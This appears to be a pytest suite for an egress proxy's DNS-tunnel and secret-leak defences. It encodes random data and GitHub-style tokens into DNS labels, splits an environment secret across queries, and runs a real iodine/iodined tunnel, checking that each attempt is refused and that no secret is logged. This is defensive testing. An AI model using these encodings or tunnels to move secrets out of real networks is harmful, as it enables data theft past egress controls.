"""Names as a channel: data in labels under a listed wildcard, secrets in names, a real tunnel. The verdict is what the recording name server
has received, in bytes of labels."""

import base64
import os
import pathlib
import random
import stat
import string

import pytest

from support.process import Process
from support.timing import seconds, wait_until
from support.tokens import github_token

WILD = {"allow": ["**.wild.test", "listed.other.test"], "listen": {"dns": "127.0.0.1:0"}, "workers": 1}


@pytest.fixture
def serve(start, dns):
    def starter(config=None, **budget):
        return start({**WILD, "dns": {"budget": budget}, **(config or {})})

    return starter


def told(dns, domain="wild.test"):
    """The bytes of labels in front of the domain that name servers have heard."""
    return sum(len(name) - len(domain) for name in {query.name.lower() for query in dns.queries})


def chunks(data, encode, size):
    text = encode(data)
    return [text[at : at + size] for at in range(0, len(text), size)]


def plain(data):
    """Bytes as words, as a tunnel with plain labels says them: no label is long or looks random."""
    words = ("alpha", "bravo", "delta", "echo", "golf", "hotel", "india", "kilo")
    return ".".join(words[byte % 8] + str(byte // 8) for byte in data)


def test_random_labels_are_stopped_early(serve, dns):
    egressd = serve()
    labels = chunks(os.urandom(3600), lambda data: base64.b32encode(data).decode().lower().rstrip("="), 48)
    replies = [egressd.ask(f"{label}.wild.test") for label in labels]
    assert [reply.reason for reply in replies[20:]] == ["dns-tunnel"] * (len(labels) - 20)
    assert {(reply.rcode, reply.error) for reply in replies[20:]} == {("REFUSED", 18)}
    assert told(dns) <= 20 * 49
    egressd.wait_for_log("dns-tunnel", domain="wild.test")
    assert egressd.ask("www.wild.test").rcode == "NXDOMAIN", "an ordinary name is still asked for"
    log = egressd.stop()
    pairs = log.attempts(reason="dns-tunnel")
    assert len(pairs) == len(labels) - 20 and {pair.end["rcode"] for pair in pairs} == {"REFUSED"}


def test_plain_labels_are_stopped_by_their_number_and_length(serve, dns):
    dns.set("www.wild.test", "93.184.216.34")
    egressd = serve(missing=10_000)
    assert egressd.ask("www.wild.test").rcode == "NOERROR"
    data = os.urandom(900)
    names = [plain(data[at : at + 3]) + f".n{at}.wild.test" for at in range(0, len(data), 3)]
    reasons = [egressd.ask(name).reason for name in names]
    assert reasons[-1] == "dns-tunnel" and told(dns) <= 4096
    assert len({query.name for query in dns.queries}) <= 200
    assert egressd.ask("www.wild.test").addresses == ["93.184.216.34"], "a name that was seen goes on"
    assert egressd.ask("listed.other.test").reason == "", "another domain has a budget of its own"


def test_a_storm_of_names_that_do_not_exist(serve, dns):
    egressd = serve()
    reasons = [egressd.ask(f"n{number}.wild.test").reason for number in range(80)]
    assert reasons[:50] == [""] * 50 and reasons[50:] == ["dns-tunnel"] * 30
    assert len({query.name for query in dns.queries}) == 50


def test_the_rate_of_lookups_is_bounded(serve, dns):
    """The same name, which is kept for no time: a bit for each question, if its owner counts."""
    dns.set("bit.wild.test", "93.184.216.34", ttl=0)
    egressd = serve(lookups=40)
    reasons = [egressd.ask("bit.wild.test").reason for _ in range(60)]
    assert reasons[:40] == [""] * 40 and reasons[40:] == ["dns-tunnel"] * 20
    assert len([query for query in dns.queries if query.kind == "A"]) == 40


def test_a_name_that_is_listed_in_full_tells_nothing(serve, dns):
    dns.set("listed.other.test", "93.184.216.34", ttl=0)
    egressd = serve(names=1, lookups=1, missing=1, bytes="1B", random=0)
    for _ in range(5):
        assert egressd.ask("listed.other.test").addresses == ["93.184.216.34"]


def test_connections_have_the_same_budget(serve, dns):
    """CONNECT, SOCKS and plain HTTP make egressd ask as well."""
    egressd = serve(names=6)
    ways = (
        lambda name: f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode(),
        lambda name: f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode(),
        lambda name: b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name.encode() + b"\x01\xbb",
    )
    for number in range(18):
        with egressd.client(timeout=seconds(3)) as client:
            client.send(ways[number % 3](f"n{number}.wild.test"))
            client.half_close()
            assert client.read_to_end()
    assert egressd.ask("n99.wild.test").reason == "dns-tunnel"
    assert len({query.name for query in dns.queries}) == 6
    log = egressd.stop()
    assert [pair.end["reason"] for pair in log.attempts()][6:] == ["dns-tunnel"] * 13


def test_synthetic_answers_have_it_too(serve, dns):
    egressd = serve({"dns": {"answers": "synthetic", "budget": {"names": 5}}})
    reasons = [egressd.ask(f"n{number}.wild.test").reason for number in range(8)]
    assert reasons == [""] * 5 + ["dns-tunnel"] * 3 and dns.queries == []


def test_the_window_ends(serve, dns):
    egressd = serve(names=2, window="1s")
    assert [egressd.ask(f"n{number}.wild.test").reason for number in range(3)] == ["", "", "dns-tunnel"]
    wait_until(lambda: egressd.ask(f"m{random.random()}.wild.test".replace("0.", "")).reason == "", "a new window")


@pytest.mark.parametrize("spell", [lambda token: token, lambda token: base64.b32encode(token.encode()).decode().rstrip("=")])
def test_a_secret_in_a_name_goes_nowhere(serve, dns, spell):
    """As it is, cut over labels and encoded; neither the log nor the reply repeats it."""
    egressd = serve()
    token = github_token()
    said = spell(token)
    cut = said[:20] + "." + said[20:]
    names = [f"{said}.wild.test"] if len(said) <= 63 else []
    for name in [*names, f"{cut}.wild.test"]:
        reply = egressd.ask(name)
        assert (reply.rcode, reply.error, reply.reason) == ("NXDOMAIN", 15, "secret-found")
        assert egressd.ask(name, tcp=True).reason == "secret-found"
    assert dns.queries == []
    log = egressd.stop()
    assert log.of("secret") and {record["secret"]["where"] for record in log.of("secret")} == {"host"}
    everything = b"\n".join(log.lines).lower()
    for part in (token, said, cut):
        assert part.lower().encode() not in everything
    assert {pair.attempt.get("host") for pair in log.attempts(reason="secret-found")} == {None}


def test_a_known_secret_in_pieces_over_several_names(start, dns):
    value = "".join(random.choice((string.ascii_lowercase, string.digits)[number % 2]) for number in range(48))
    config = {**WILD, "secrets": {"rules": ["builtin"], "known": [{"env": ["DEPLOY_TOKEN"]}]}}
    egressd = start(config, env={"DEPLOY_TOKEN": value})
    pieces = (value[:16], value[16:32], value[32:])
    assert [egressd.ask(f"{piece}.wild.test").reason for piece in pieces] == ["", "", "secret-found"]
    assert pieces[2] not in " ".join(query.name for query in dns.queries)


class Iodined:
    """The far end of a DNS tunnel, as an attacker would run it."""

    def __init__(self, address):
        self.process = Process(["iodined", "-f", "-c", "-P", "secret", "-l", address, "10.99.0.1/30", "t.test"])
        self.process.wait_for_line(lambda line: "Listening to dns" in line)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.stop()


def iodine(server, *options, wait):
    """Tries to open the tunnel; True when it stands."""
    process = Process(["iodine", "-f", "-r", "-P", "secret", *options, server, "t.test"])
    try:
        process.wait_for_line(lambda line: "Connection setup complete" in line, timeout=wait)
    except AssertionError:
        return False
    finally:
        process.stop()
    return True


@pytest.fixture
def tun():
    """Both ends of a tunnel need the device, which not every container comes with."""
    device = pathlib.Path("/dev/net/tun")
    if not device.exists():
        device.parent.mkdir(exist_ok=True)
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(10, 200))


@pytest.mark.usefixtures("tun")
def test_iodine(start, dns):
    """A real tunnel works where nobody is in its way, and through egressd not a byte of it gets through: neither with the domain unlisted,
    when nobody hears of it, nor with it listed."""
    with Iodined("127.0.0.54"):
        assert iodine("127.0.0.54", wait=seconds(10)), "without egressd in between"
        # What leaves is judged by the recording server first.
        base = {"listen": {"dns": "127.0.0.53:53"}, "limits": {"resolve_timeout": "500ms"}}
        unlisted = start({**base, "allow": ["origin.test"]})
        assert not iodine("127.0.0.53", wait=seconds(2))
        assert dns.queries == []
        reasons = set(unlisted.stop().reasons(proto="dns"))
        assert reasons <= {"dns-type", "not-listed", "name-invalid", "request-malformed"} and reasons
        listed = start({**base, "allow": ["**.t.test"], "dns": {"upstream": ["127.0.0.54:53"]}})
        for options in ([], ["-T", "A"], ["-T", "CNAME"], ["-T", "NULL"], ["-T", "TXT"]):
            assert not iodine("127.0.0.53", *options, wait=seconds(2)), options
        log = listed.stop()
        assert {pair.attempt["qtype"] for pair in log.attempts(proto="dns", reason="allowed")} <= {"A", "AAAA"}
